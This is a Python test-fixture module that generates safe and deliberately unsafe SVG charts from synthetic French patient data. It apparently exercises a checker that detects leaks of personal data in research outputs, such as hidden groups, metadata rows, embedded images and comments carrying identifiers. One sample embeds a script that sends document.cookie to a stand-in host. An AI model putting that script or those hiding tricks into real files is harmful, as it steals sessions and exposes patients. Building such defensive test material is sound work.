"""SVG: drawings whose numbers can be read back, and what groups hide."""

import base64
import random
from pathlib import Path

from tests.airlock.outputs import people
from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs.contents import LEAKS, SAFE
from tests.airlock.outputs.csv_files import text
from tests.airlock.outputs.drawn import as_bytes, figure, finish, table_picture


def _line(rows: list[tuple[float, float]], title: str, path: Path) -> None:
    made, axes = figure()
    axes.plot([row[0] for row in rows], [row[1] for row in rows])
    axes.set(title=title)
    finish(made, path, "svg")


def _safe(shelf: Shelf) -> None:
    rng = shelf.random("svg/safe")
    for turn, (name, across, up) in enumerate(
        (("survival", 0, 1), ("roc", 0, 1), ("calibration", 2, 3), ("learning", 0, 3))
    ):
        content = SAFE[name](rng)
        path = shelf.safe(f"svg/courbe_{turn}.svg", content.way, content.title, content.population)
        _line([(float(row[across]), float(row[up])) for row in content.rows], content.title, path)
    content = SAFE["by_year"](rng)
    made, axes = figure()
    drawn = axes.bar([f"{row[0]}" for row in content.rows], [row[1] for row in content.rows])
    axes.bar_label(drawn)
    axes.set(title="Séjours par année")
    finish(
        made, shelf.safe("svg/annees.svg", "bars with large labels, years", content.title, content.population), "svg"
    )
    content = SAFE["importance"](rng)
    made, axes = figure()
    axes.barh([f"{row[1]}" for row in content.rows], [row[2] for row in content.rows])
    axes.set(title="Importance des variables (8 variables, 5 plis)")
    finish(
        made, shelf.safe("svg/importance.svg", "small values of importance", content.title, content.population), "svg"
    )


def write(shelf: Shelf) -> None:
    _safe(shelf)
    rng = shelf.random("svg/unsafe")
    found = people.patients(rng, 60)

    made, axes = figure()
    axes.scatter([p["age"] for p in found], [p["hba1c"] for p in found])
    axes.set(xlabel="âge", ylabel="HbA1c", title="HbA1c selon l'âge")
    finish(
        made,
        shelf.unsafe("svg/nuage.svg", "scatter: a point a person", "60 markers", "HbA1c selon l'âge", "60 patients"),
        "svg",
    )

    points = "".join(
        f'<circle cx="{p["age"] * 6}" cy="{400 - p["creatinine"]}" r="3" aria-label="âge : {p["age"]} ; créatinine : {p["creatinine"]}"/>'
        for p in found
    )
    path = shelf.unsafe(
        "svg/points.svg", "points with the values of single persons", "circle aria-label", "Créatinine", "60 patients"
    )
    path.write_text(_drawing(points), encoding="utf-8")

    rows = LEAKS["survival_drops"](rng).rows
    steps = " ".join(f"H{float(row[0]):.1f} V{300 * (1 - float(row[1])):.3f}" for row in rows)
    path = shelf.unsafe(
        "svg/survie.svg", "steps of single events", "path of 25 steps", "Kaplan-Meier, 120 patients", "120 patients"
    )
    path.write_text(
        _drawing(f'<text x="40" y="20">n = 120</text><path fill="none" stroke="black" d="M0 0 {steps}"/>'),
        encoding="utf-8",
    )

    _hidden(shelf, rng)


def _drawing(inside: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 700 450">{inside}</svg>\n'
    )


def _hidden(shelf: Shelf, rng: random.Random) -> None:
    shown = '<text x="30" y="30">Séjours par année</text>' + "".join(
        f'<rect x="{60 * i + 40}" y="{400 - n / 12:.1f}" width="40" height="{n / 12:.1f}"/><text x="{60 * i + 40}" y="430">{2016 + i}</text>'
        for i, n in enumerate(rng.randint(2100, 3900) for _ in range(7))
    )
    given, surname = people.name(rng)
    rows = text(LEAKS["patient_rows"](rng).lines)
    picture = base64.b64encode(as_bytes(table_picture(LEAKS["contacts"](rng)))).decode()
    ways = (
        (
            "hidden group with a name",
            'g display="none"',
            f'<g display="none"><text>{surname.upper()} {given}, NIP {people.ipp(rng)}</text></g>',
        ),
        ("metadata with one row a person", "metadata", f"<metadata>{rows}</metadata>"),
        (
            "embedded picture with telephones",
            "image data URI",
            f'<image width="600" height="300" xlink:href="data:image/png;base64,{picture}"/>',
        ),
        (
            "title of a bar with a small count",
            "title",
            f'<g><title>décès : {rng.randint(2, 8)} patients</title><rect width="4" height="4"/></g>',
        ),
        ("comment with a social security number", "XML comment", f"<!-- {people.nir(rng)} -->"),
        ("script", "script", "<script>fetch('http://collecte.example/?' + document.cookie)</script>"),
    )
    for turn, (way, where, extra) in enumerate(ways):
        path = shelf.unsafe(f"svg/annexe_{turn}.svg", way, where, "Séjours par année", "tous les séjours")
        path.write_text(_drawing(shown + extra), encoding="utf-8")
    path = shelf.safe("svg/annees_main.svg", "bars drawn by hand, years", "Séjours par année", "tous les séjours")
    path.write_text(_drawing(shown), encoding="utf-8")
